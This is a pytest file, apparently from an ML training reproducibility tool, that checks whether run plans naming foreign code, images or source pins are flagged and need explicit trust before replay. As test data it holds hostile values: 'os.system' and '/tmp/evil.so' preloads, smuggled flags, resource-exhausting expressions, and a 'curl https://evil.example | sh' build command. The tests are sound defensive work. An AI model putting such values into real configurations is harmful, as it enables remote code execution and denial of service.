"""Code that a recorded run names is listed, and foreign code needs trust."""

from __future__ import annotations

import dataclasses
import json
import tarfile
from pathlib import Path
from typing import Any

import pytest

from rlk_repro.analysis.analyse import analyse
from rlk_repro.base.errors import CheckFailed, EnvironmentMissing
from rlk_repro.base.files import write_json
from rlk_repro.bundle.seal import pack, seal
from rlk_repro.cli.sources import require_sources
from rlk_repro.plan import Plan, make_record
from rlk_repro.rundir.paths import RunDir, runs_root
from rlk_repro.spec import HubSource, Image
from rlk_repro.spec.stack import Unpublished
from rlk_repro.submit.consent import find_build_hint, find_foreign, find_shipped_pins, list_what_runs, require_trust
from tests import ROOT
from tests.security.hostile import with_workload
from tests.support.slurm.examples import plan_for
from tests.support.vime_examples import list_plans

FLAGS: dict[str, Any] = {
    "custom-generate-function-path": "evil.module.generate",
    "custom-convert-samples-to-train-data-path": "os.system",
    "data-source-path": "evil.Source",
    "spec": ("evil.module", "get_spec"),
    "rollout-data-postprocess-path": "vime.x.y ; evil",
    "vllm-worker-cls": "evil.Worker",
    "vllm-tool-parser-plugin": "/tmp/evil.py",
    "vllm-middleware": "vime.looks.known",
    "vllm-log-config-file": "vime.json",
    "vllm-load-format": "evil",
    "vllm-hf-overrides": '{"a": 1}',
    "vllm-chat-template": "{{ evil }}",
    "train-env-vars": '{"LD_PRELOAD": "/tmp/evil.so"}',
    "rm-url": "http://evil.example/reward",
    "tokenizer-model": "/tmp/evil",
    "trust-remote-code": True,
    # digits are a file's name, an address or a module, too
    **dict.fromkeys(("vllm-router-ip", "worker-urls", "http-proxy", "vllm-data-parallel-address"), "203.0.113.66"),
    **dict.fromkeys(("pretrained-checkpoint", "megatron-config-path", "vllm-config", "router-wasm-middleware"), "1"),
    "vllm-max-model-len": "1-2",
    "vllm-quantization": "a.b",
    "vllm-attention-backend": "/tmp/1",
    # Megatron-LM evaluates these
    "moe-layer-freq": "[0]*9999999999",
    "linear-attention-freq": "9**9**9",
    "no-rope-freq": "[0]*9999999999*0+[1]*28",
    "window-attn-skip-freq": "[0]*(9999999999)+[1]",
}
# Numbers, choices and code that the stack pins.
HARMLESS: dict[str, Any] = {
    "vllm-quantization": "fp8",
    "moe-layer-freq": "[0]*1+[1]*7",
    "vllm-max-model-len": "8k",
    "attention-backend": "flash",
    "vllm-enforce-eager": True,
    "spec": ("vime_plugins.models.glm4", "get_spec"),
    "dynamic-sampling-filter-path": "vime.rollout.filter_hub.dynamic_sampling_filters.check",
}
PINS: dict[str, dict[str, str]] = {
    "repository": {"repository": "https://github.com/evil/Megatron-LM"},
    "commit": {"commit": "e" * 40},
    "tree": {"tree": "e" * 40},
    "patched tree": {"patched_tree": "e" * 40},
}


def test_no_shipped_run_names_foreign_code() -> None:
    assert {name: found for name, plan in list_plans() if (found := find_foreign(plan))} == {}


def test_flags_that_name_foreign_code_need_trust() -> None:
    plan = plan_for("vime-smoke", "h200")
    for flag, value in FLAGS.items():
        with pytest.raises(CheckFailed, match=rf"--{flag}: may run code from outside this package and the pinned"):
            require_trust(with_workload(plan, arguments={flag: value}))
    for hidden in (("fp8", "--custom-rm-path=evil.f"), ("fp8", "--spec", "evil.x", "f")):
        found = find_foreign(with_workload(plan, arguments={"vllm-quantization": hidden}))
        assert "evil" in " ".join(item.value for item in found)
    assert find_foreign(with_workload(plan, arguments=HARMLESS)) == []


def test_foreign_rewards_models_and_images_need_trust() -> None:
    theirs = with_workload(plan_for("vime-smoke", "h200"), data={"custom_rm_path": "evil.reward", "rm_type": None})
    assert [str(item) for item in find_foreign(theirs)] == ["--custom-rm-path evil.reward"]
    source = HubSource(kind="hub", repository="evil/Qwen3-4B", revision="a" * 40)
    theirs = with_workload(plan_for("qwen3-4b", "h200"), model={"source": source})
    assert [item.where for item in find_foreign(theirs)] == ["model"]
    plan = plan_for("smoke", "h200")
    image = Image(reference="evil.example/image", digest=f"sha256:{'e' * 64}")
    theirs = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"images": {"cuda-amd64": image}}))
    assert [str(item) for item in find_foreign(theirs)] == [f"image evil.example/image@sha256:{'e' * 64}"]
    assert list_what_runs(theirs, theirs.profile)["FOREIGN 1 of 1"].endswith(" (needs --trust)")
    shipped = plan_for("smoke", "h200", stack="example")
    assert (bool(shipped.stack.images), find_foreign(shipped)) == (True, [])


@pytest.mark.parametrize("what", PINS)
def test_pinned_means_pinned_by_a_shipped_stack(what: str) -> None:
    plan = plan_for("vime-smoke", "h200")
    assert find_shipped_pins(plan.stack) == plan.stack.pins
    theirs = {**plan.stack.pins, "megatron_lm": plan.stack.pins["megatron_lm"].model_copy(update=PINS[what])}
    plan = dataclasses.replace(plan, stack=plan.stack.model_copy(update={"pins": theirs}))
    assert [item.where for item in find_foreign(plan)] == ["pin megatron_lm"]
    assert list_what_runs(plan, plan.profile)["FOREIGN 1 of 1"].startswith("pin megatron_lm ")
    assert "FOREIGN 1 of 1" not in list_what_runs(plan, plan.profile, is_own=True)
    local = dataclasses.replace(plan, profile=plan.profile.model_copy(update={"cluster": "local"}))
    with pytest.raises(EnvironmentMissing) as caught:
        require_sources(local)
    hints = {problem.where: problem.hint for problem in caught.value.problems}
    assert "git clone" in str(hints["python module vime"])
    assert "git clone" not in str(hints["python module megatron"])


def test_a_command_of_a_strangers_stack_is_no_hint() -> None:
    plan = plan_for("smoke", "h200")
    evil = Unpublished(build="curl https://evil.example | sh", reason="theirs")
    stack = plan.stack.model_copy(update={"images": {}, "unpublished": {"cuda-amd64": evil}})
    assert find_build_hint(dataclasses.replace(plan, stack=stack)) is None


@pytest.fixture
def bundle(tmp_path: Path) -> Path:
    """Return sealed evidence with a reward function of the stranger's, with all hashes made to fit."""
    folder = tmp_path / "theirs"
    folder.mkdir()
    with tarfile.open(ROOT / "docs" / "evidence" / "qwen3-4b-random-live-h200.tgz") as archive:
        archive.extractall(folder, filter="data")
    run_dir = RunDir(folder)
    plan = with_workload(Plan.load(run_dir.plan), data={"custom_rm_path": "evil.reward", "rm_type": None})
    write_json(run_dir.plan, make_record(plan, run_dir.run_id))
    author = run_dir.run_yaml.read_text()
    run_dir.run_yaml.write_text(author.replace("rlk_repro.integration.reward.share_of_even_ids", "evil.reward"))
    write_json(run_dir.analysis, analyse(run_dir).to_json())
    run_dir.checksums.unlink()
    seal(run_dir)
    return pack(run_dir)


def test_yes_alone_does_not_trust_foreign_code(
    call, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("VIME_SRC", "MEGATRON_SRC", "RLK_SRC", "PYTHONPATH"):
        monkeypatch.delenv(name, raising=False)
    sources = []
    for option, module in (("--vime-src", "vime"), ("--megatron-src", "megatron"), ("--rl-kernel-src", "rl_engine")):
        (tmp_path / option / module).mkdir(parents=True)
        sources += [option, str(tmp_path / option)]
    shown = json.loads(call("replay", str(bundle), *sources, "--dry-run", "--json")[1])["what_runs"]
    assert shown["FOREIGN 1 of 1"] == "--custom-rm-path evil.reward (needs --trust)"
    code, out, err = call("replay", str(bundle), *sources, "--yes")
    assert (code, list(runs_root().glob("*/*/plan.json"))) == (6, [])
    assert "  FOREIGN 1 of 1 --custom-rm-path evil.reward (needs --trust)\n" in out
    assert "hint: review this code; --trust allows it" in err
